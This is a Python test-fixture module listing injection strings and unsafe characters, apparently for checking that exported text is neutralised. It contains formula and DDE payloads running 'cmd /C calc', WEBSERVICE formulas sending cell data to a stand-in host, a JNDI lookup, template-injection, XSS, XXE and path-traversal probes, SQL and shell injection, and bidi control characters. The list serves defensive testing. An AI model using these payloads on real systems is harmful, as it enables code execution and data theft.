"""Texts that some program somewhere takes for more than text."""

from __future__ import annotations

INJECTIONS = (
    # Formulas, also behind what a reader may strip.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/\",\"点此\")",
    "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "+1+1",
    "-1+1",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "{=1+1}",
    "DDE(\"cmd\";\"/C calc\";\"A0\")",
    "'=1+1",
    '";=1+1;"',
    # Templates and formats.
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{0.__class__.__mro__}",
    "{found}{expected}{missing}",
    "{",
    "}",
    "%s%n%(found)s",
    "${jndi:ldap://example.invalid/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    # Markup.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "]]><evil/><![CDATA[",
    "&lt;b&gt;&amp;&#60;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "--><!--",
    "[red]红[/red][link=http://example.invalid]",
    "&C&\"宋体\"&20页眉",
    # Escapes of spreadsheets, paths, names.
    "_x000D_",
    "_x0000_",
    "_x005F_x000D_",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\CON",
    "CON",
    "NUL.xlsx",
    "file:///etc/passwd",
    "http://example.invalid/?x=1",
    "mailto:a@example.invalid",
    "internal:汇总!A1",
    "[1]Sheet1!A1",
    "History",
    # SQL and shells.
    "'; DROP TABLE units; --",
    "$(touch x)`touch x`|touch x",
    # Numbers and nothings.
    "NA",
    "null",
    "NaN",
    "1e999",
    "TRUE",
    "00123",
    # What cannot be seen or acts on what stands beside it.
    "零\u200b宽",
    "反\u202e转\u202c",
    "隔\u2066离\u2069",
    "左\u200e右\u200f",
    "\ufeff开头",
    "软\u00ad连",
    "铃\x07退格\x08",
    "\x1b[31m红\x1b[0m\x1b]0;标题\x07",
    "空\x00字符",
    "断\x85行\u2028段\u2029",
    "C1\x9b31m",
    "非字符\ufffe\uffff",
    "填充\u3164\uffa0",
    "😀👨\u200d👩\u200d👧",
    "组合z\u0351\u036b\u0343\u036a",
    "第一行\n第二行\r\n【退回】0条",
    "长" * 32_767,
)

UNSAFE = frozenset(
    [*map(chr, range(0x09)), *map(chr, range(0x0B, 0x20)), *map(chr, range(0x7F, 0xA0)), *map(chr, range(0xD800, 0xE000))]
    + list("\u00ad\u061c\u200b\u200c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069")
    + list("\u3164\uffa0\ufeff\ufffe\uffff")
) - {"\t"}
"""Characters that no output may hold as they are."""
